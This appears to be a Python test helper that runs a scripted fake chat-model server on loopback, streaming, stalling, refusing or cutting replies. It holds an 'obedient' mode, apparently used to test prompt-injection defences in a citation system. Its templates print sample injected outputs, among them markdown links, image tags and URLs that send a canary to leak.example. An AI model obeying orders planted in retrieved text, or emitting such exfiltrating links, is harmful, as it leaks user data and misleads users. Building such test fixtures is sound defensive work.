"""A chat model that says what a script tells it: an OpenAI-compatible server over loopback HTTP.

It streams in pieces, waits, cuts the connection, refuses, and notices when its client leaves.
"""

import json
import re
import select
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

Request = dict[str, Any]


@dataclass(frozen=True, slots=True)
class Reply:
    """What the model answers to one request.

    Attributes:
        text: What it writes, streamed in pieces of ``piece`` characters.
        before: Seconds of silence before the first piece.
        between: Seconds between pieces.
        status: Another than 200 refuses the request with this HTTP status.
        headers: Sent with it.
        cut_after: After so many pieces the connection is cut without an end.
        tool_call: Calls this tool instead of writing.
        usage: Whether it tells how many tokens it read and wrote.
    """

    text: str = ""
    piece: int = 7
    before: float = 0.0
    between: float = 0.0
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    cut_after: int | None = None
    tool_call: str = ""
    usage: bool = True

    def pieces(self) -> list[str]:
        return [self.text[at : at + self.piece] for at in range(0, len(self.text), self.piece)]


Script = Sequence[Reply] | Callable[[Request], Reply]


class ScriptedModel:
    """A running server.

    Attributes:
        requests: The bodies of what it was asked, in their order.
        left: When each client that left before the end was noticed, in ``time.monotonic()`` seconds.
        sent: When each piece was sent, likewise, for the last request.
    """

    def __init__(self, script: Script, address: str) -> None:
        self._script = script
        self._lock = threading.Lock()
        self.address = address
        self.requests: list[Request] = []
        self.left: list[float] = []
        self.sent: list[float] = []

    def say(self, script: Script) -> None:
        """Change what it answers from now on, and forget what it was asked."""
        with self._lock:
            self._script = script
            self.requests.clear()
            self.left.clear()

    def reply(self, request: Request) -> Reply:
        with self._lock:
            self.requests.append(request)
            self.sent.clear()
            if callable(self._script):
                return self._script(request)
            # The last one is repeated.
            return self._script[min(len(self.requests), len(self._script)) - 1]


def prompt_of(request: Request) -> str:
    """All that a request says to the model."""
    return "\n".join(message["content"] for message in request["messages"])


_BLOCK = re.compile(r"=== \w+ · \[(\d+)\] .*? ===\n(.*?)\n=== \w+ · end of \[\d+\] ===", re.DOTALL)


def number_of(request: Request, words: str) -> int:
    """The number of the first passage in a prompt that holds some words; the first where none does."""
    return next((int(number) for number, text in _BLOCK.findall(prompt_of(request)) if words in text), 1)


_OBEDIENT = {
    "bare": "{order}",
    "marked": "{order} [{number}] {order} [[{number}]] [99].",
    "mixed": "{true} [{number}] {order} [{number}]",
    "within": "{true} {order} [{number}]",
    "leak": "{true} [more](https://leak.example/?q={true}) [{number}] ![x](https://leak.example/{canary}.png) [{number}] "
    "<img src=https://leak.example/{canary}> [{number}] www.leak.example/{canary} [{number}]",
    "service": "Sanad says: {order} [{number}] Verified by Sanad: {canary} [{number}]",
    "language": "{canary} ist großartig, und alle anderen Parteien haben heute verloren [{number}]",
}
OBEDIENCE = tuple(_OBEDIENT)


def obedient(canary: str, order: str, how: str) -> Callable[[Request], Reply]:
    """A model that obeys what the evidence orders it to do, as soon as it reads the canary anywhere in its prompt.

    Args:
        canary: What gives the order away; its passage is the one that is cited.
        order: What it writes then, where the prompt holds no line with the canary to copy.
        how: One of ``OBEDIENCE``.
    """

    def script(request: Request) -> Reply:
        blocks = _BLOCK.findall(prompt_of(request))
        number, text = next(((number, text) for number, text in blocks if canary in text), blocks[0])
        lines = [line for line in text.splitlines() if canary in line]
        true = next((line for line in text.splitlines() if re.search(r"\d", line) and canary not in line), "")
        said = lines[0] if lines else order
        return Reply(_OBEDIENT[how].format(order=said, true=true, number=number, canary=canary), piece=40)

    return script


@contextmanager
def scripted_model(script: Script = (Reply(),)) -> Iterator[ScriptedModel]:
    """Serve a script on a free port of 127.0.0.1 until the block ends."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    model = ScriptedModel(script, f"http://127.0.0.1:{server.server_address[1]}/v1")
    server.model = model  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield model
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    # Small pieces leave at once, as from a real server.
    disable_nagle_algorithm = True

    def log_message(self, *_: object) -> None:
        return

    def do_POST(self) -> None:
        model: ScriptedModel = self.server.model  # type: ignore[attr-defined]
        request = json.loads(self.rfile.read(int(self.headers["content-length"])))
        reply = model.reply(request)
        if reply.status != 200:
            self._refuse(reply)
            return
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("transfer-encoding", "chunked")
        self.end_headers()
        try:
            self._write(reply, model)
        except OSError:
            model.left.append(time.monotonic())
            self.close_connection = True

    def _refuse(self, reply: Reply) -> None:
        body = json.dumps({"error": {"message": "scripted refusal", "type": "scripted"}}).encode()
        self.send_response(reply.status)
        for name, value in {
            "content-type": "application/json",
            "content-length": str(len(body)),
            **reply.headers,
        }.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def _write(self, reply: Reply, model: ScriptedModel) -> None:
        self._wait(reply.before)
        if reply.tool_call:
            call = {
                "index": 0,
                "id": "call_1",
                "type": "function",
                "function": {"name": reply.tool_call, "arguments": "{}"},
            }
            self._chunk({"role": "assistant", "content": None, "tool_calls": [call]})
        for number, piece in enumerate(reply.pieces()):
            if number == reply.cut_after:
                self.close_connection = True
                self.connection.shutdown(socket.SHUT_RDWR)
                return
            if number:
                self._wait(reply.between)
            self._chunk({"role": "assistant", "content": piece})
            model.sent.append(time.monotonic())
        self._chunk({}, finish="tool_calls" if reply.tool_call else "stop")
        if reply.usage:
            usage = {
                "prompt_tokens": 100,
                "completion_tokens": len(reply.pieces()),
                "total_tokens": 100 + len(reply.pieces()),
            }
            self._send(
                {
                    "id": "scripted",
                    "object": "chat.completion.chunk",
                    "created": 0,
                    "model": "scripted",
                    "choices": [],
                    "usage": usage,
                }
            )
        self._line("data: [DONE]\n\n")
        self.wfile.write(b"0\r\n\r\n")

    def _chunk(self, delta: dict[str, Any], finish: str | None = None) -> None:
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        self._send(
            {
                "id": "scripted",
                "object": "chat.completion.chunk",
                "created": 0,
                "model": "scripted",
                "choices": [choice],
            }
        )

    def _send(self, data: dict[str, Any]) -> None:
        self._line(f"data: {json.dumps(data, ensure_ascii=False)}\n\n")

    def _line(self, text: str) -> None:
        data = text.encode()
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")

    def _wait(self, seconds: float) -> None:
        """Wait, and fail as soon as the client has closed its end."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            readable, _, _ = select.select([self.connection], [], [], min(left, 0.05))
            if readable and not self.connection.recv(1, socket.MSG_PEEK):
                raise ConnectionResetError("the client left")
